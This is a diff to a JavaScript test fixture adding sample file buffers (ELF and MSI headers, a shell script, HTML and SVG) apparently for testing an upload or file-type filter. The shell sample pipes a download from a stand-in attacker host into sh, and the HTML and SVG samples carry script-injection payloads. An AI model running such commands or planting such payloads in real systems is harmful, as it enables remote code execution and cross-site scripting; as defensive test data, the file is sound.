@@ -87,6 +87,21 @@ export const samples = {
     b.write("PE\0\0", 0x80, "latin1");
     return b;
   },
+  /** A Linux executable's start (ELF magic, 64-bit, little-endian). */
+  elf: () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]),
+  /** A Windows Installer package is an OLE compound file, like .doc / .xls. */
+  msi: () => {
+    const header = Buffer.alloc(1024);
+    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
+    header.writeUInt16LE(0x003e, 24);
+    header.writeUInt16LE(0x0003, 26);
+    header.writeUInt16LE(0xfffe, 28);
+    header.writeUInt16LE(0x0009, 30);
+    return header;
+  },
+  shellScript: () => Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n", "utf8"),
+  html: () => Buffer.from("<!DOCTYPE html><html><body><script>fetch('/api/badges').then(r=>r.text()).then(alert)</script></body></html>\n", "utf8"),
+  svg: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>\n', "utf8"),
   utf8Text: () => Buffer.from("关于督查事项的说明\r\n第一条：按期办结。\n", "utf8"),
   /** "你好，督查" in GBK, as 记事本 in a Chinese Windows saves ANSI text. */
   gbkText: () => Buffer.from([0xc4, 0xe3, 0xba, 0xc3, 0xa3, 0xac, 0xb6, 0xbd, 0xb2, 0xe9, 0x0d, 0x0a]),
